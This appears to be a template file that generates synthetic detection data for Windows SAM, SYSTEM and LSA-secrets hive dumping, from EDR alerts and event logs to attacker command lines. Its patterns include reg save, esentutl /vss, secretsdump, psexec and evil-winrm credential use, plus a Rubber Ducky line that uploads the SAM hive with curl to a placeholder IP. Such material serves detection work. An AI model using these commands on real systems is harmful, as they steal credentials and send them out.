mh-edr-alert text: «Suspicious registry hive dump¦SAM hive export¦Credential theft from SAM¦OS Credential Dumping: Security Account Manager» on ‹server›: process «reg.exe¦‹name›.exe¦svchost.exe» wrote file ‹dir›\«sam.hiv¦SAM» (regf header)
mh-edr-remote text: svchost.exe -k «localService -p ¦LocalService »-s RemoteRegistry created C:\Windows\«System32¦Temp»\‹letters8›.tmp (SAM hive), read over «ADMIN$¦IPC$ winreg» from ‹ip›
mh-winreg-pipe text: zeek dce_rpc ‹ip› -> ‹ip›:445 winreg «OpenLocalMachine BaseRegCreateKey BaseRegSaveKey SAM¦BaseRegSaveKeyEx file=‹letters8›.tmp key=SAM¦BaseRegQueryInfoKey JD Skew1 GBG Data, BaseRegSaveKey SAM»
mh-winreg-pipe-security text +T1003.004: zeek dce_rpc ‹ip› -> ‹ip›:445 \PIPE\winreg «BaseRegSaveKey key=SECURITY file=‹letters8›.tmp¦BaseRegCreateKey SECURITY; BaseRegSaveKey ‹letters8›.tmp»
mh-remote-start cmd: sc \\‹server› start RemoteRegistry & reg save \\‹server›\‹hklm›\«SAM¦SYSTEM» C:\Windows\Temp\‹name›.tmp & copy \\‹server›\C$\Windows\Temp\‹name›.tmp ‹dir›
mh-event-4656 text: EventID 4«656¦663» ObjectType Key ObjectName \REGISTRY\MACHINE\SAM«\SAM\Domains\Account\Users\000001F4¦» ProcessName ‹dir›\‹name›.exe AccessMask 0x20019 ‹user›
mh-event-4663-file text: EventID 4663 ObjectType File ObjectName \Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\«SAM¦SYSTEM» ProcessName ‹dir›\«esentutl¦cmd¦‹name›».exe
mh-event-4663-security text +T1003.004: EventID 4663 ObjectType Key ObjectName \REGISTRY\MACHINE\SECURITY\Policy\Secrets\«NL$KM¦DPAPI_SYSTEM¦_SC_‹name›» ProcessName ‹dir›\‹name›.exe ReadData
mh-event-kernel16 text: Microsoft-Windows-Kernel-General 16 The access history in hive «\??\C:\Windows\Temp\sam.hiv¦\??\C:\Users\‹user›\AppData\Local\Temp\SAM¦\??\C:\Temp\sam.save» was cleared updating ‹n› keys and creating ‹n› modified pages.
mh-esentutl-log cmd: esentutl.exe /y /vss «C:\Windows\System32\config\SAM /d C:\Users\Public\‹name›.log¦c:\windows\system32\config\SYSTEM /d ‹file› /o»
mh-esentutl-vss-security cmd +T1003.004: esentutl.exe /y /vss ‹config›\SECURITY /d «C:\Users\Public\‹name›.log¦‹file›»
mh-extrac cmd: ««extrac32.exe /C /Y¦expand.exe» ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›¦print /D:‹dir›\‹name› ‹vss›\Windows\System32\config\SAM¦replace.exe ‹vss›\Windows\System32\config\SAM ‹dir› /A¦findstr /V /L ‹hash› ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›»
mh-wbadmin-recover cmd: wbadmin start «recovery -version:«03¦05¦10»/01/2024-10:00 -itemtype:file -items:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -recoverytarget:‹dir› -notrestoreacl -quiet¦backup -backuptarget:\\‹server›\‹name› -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -quiet»
mh-veeam-restore text: Veeam «Explorer file-level restore¦Windows FLR»: user ‹user› copied C:\Windows\System32\config\«SAM¦SYSTEM» from backup of ‹server› to ‹dir›
mh-veeam-flr powershell: Start-VBRWindowsFileRestore -RestorePoint $rp; Copy-Item C:\VeeamFLR\‹host›_‹hash›\Volume«1¦2»\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
mh-regback cmd: «dir¦copy¦xcopy /h /y¦type» ‹config›\RegBack\«SAM¦SYSTEM»« ‹dir›¦ > ‹file›» & ‹dir›\«samdump2¦‹name›».exe ‹dir›\SYSTEM ‹dir›\SAM
mh-regback-unc cmd: copy \\‹server›\«c$\Windows\System32¦admin$\system32»\config\RegBack\«SAM¦SYSTEM» ‹dir›
mh-windows-old cmd: robocopy C:\«Windows.old\Windows\System32\config¦Windows.old\WINDOWS\system32\config¦$WINDOWS.~BT\NewOS\Windows\System32\config» ‹dir› SAM SYSTEM
mh-search-hives cmd: «for /f "delims=" %f in ('dir /s /b C:\*sam.hiv* C:\*\RegBack\SAM 2^>nul') do copy "%f" ‹dir›¦where /r C:\ SAM sam.save & copy C:\Windows\repair\SAM ‹dir›»
mh-macro-lnk text: Target: C:\Windows\System32\cmd.exe /c "reg save HKLM\«SAM¦SYSTEM» \\‹ip›\‹name›\%COMPUTERNAME%" Start in: %TEMP% Run: Minimized
mh-ducky text: «DELAY 500 GUI r¦GUI r DELAY 300» STRING powershell -w h "reg save HKLM\«SAM¦SYSTEM» $env:TEMP\‹name›; curl.exe -T $env:TEMP\‹name› http://‹ip›/" CTRL-SHIFT ENTER
mh-operator-note text: «got SYSTEM on ‹server›, saved sam and system hives, cracking local admin hash¦dumped SAM on ‹server›: local Administrator ‹hash›, reuse on /24¦hives from ‹server› pulled over smb, secretsdump local gave ‹n› hashes»
mh-operator-note-lsa text +T1003.004: «lsa secrets from ‹server›: _SC_‹name› plaintext ‹pass›¦LSA secrets on ‹server› gave service account ‹user› / ‹pass› and DPAPI_SYSTEM»
mh-caldera text: caldera ability «dump SAM hive (reg save HKLM\sam)¦Copy SAM via esentutl /vss¦Invoke-PowerDump» link ‹guid› host ‹server› executor psh status 0
mh-guest-hypervisor bash: «virsh qemu-agent-command ‹server› '{"execute":"guest-exec","arguments":{"path":"reg.exe","arg":["save","HKLM\\SAM","C:\\‹name›"]}}'¦qm guest exec ‹pid› -- reg save 'HKLM\SAM' 'C:\‹name›'¦VBoxManage guestcontrol ‹name› run --exe reg.exe -- reg save HKLM\\SAM C:\\‹name›»
mh-mac-operator bash: «docker run --rm -it rflathers/impacket secretsdump.py¦python3.11 /usr/local/bin/secretsdump.py¦~/venv/bin/secretsdump.py¦uvx --from impacket secretsdump.py» «-sam sam.save -system system.save LOCAL¦'‹domain›/‹user›:‹pass›@‹ip›'»
mh-rdp-exec bash: «sharprdp.exe computername=‹server› command="reg save HKLM\SAM C:\‹name›" username=‹user› password=‹pass›¦xfreerdp /v:‹ip› /u:‹user› /p:'‹pass›' /shell:'cmd.exe /c reg save HKLM\SAM \\tsclient\‹name›\sam'¦nxc rdp ‹ip› -u ‹user› -p '‹pass›' -x 'reg save HKLM\SAM C:\‹name›'»
mh-tsclient cmd: «copy C:\Temp\sam.hiv \\tsclient\«c¦‹name›»\¦reg save ‹hklm›\SAM \\tsclient\«c¦share»\‹name›¦robocopy C:\Temp \\tsclient\c sam.save system.save»
mh-atexec bash: «atexec.py¦atexec-pro.py¦dcomexec.py -object MMC20¦smbexec.py -share C$¦psexec.py» ‹domain›/‹user›:'‹pass›'@‹ip› 'reg save HKLM\«SAM¦SYSTEM» \\‹ip›\‹name›\‹word›'
mh-evil-winrm-pipe bash: echo 'reg save HKLM\SAM C:\Temp\‹name›; download C:\Temp\‹name›' | evil-winrm -i ‹ip› -u ‹user› -«p '‹pass›'¦H ‹hash›»
mh-syskey text: «bkhive: Root Key : CMI-CreateHive‹guid› Default ControlSet: 001 Bootkey: ‹hash›¦samdump2 3.0.0 by Objectif Securite Root Key : SAM *disabled* Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›:::¦[+] hbootkey ‹hash› Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›:::»
mh-gosecretsdump bash: «gosecretsdump¦./gosecretsdump_linux_v0.3.1¦go run . » -system ‹lfile› -sam ‹lfile›« -out ‹name›¦ -enabled¦»
"""
)
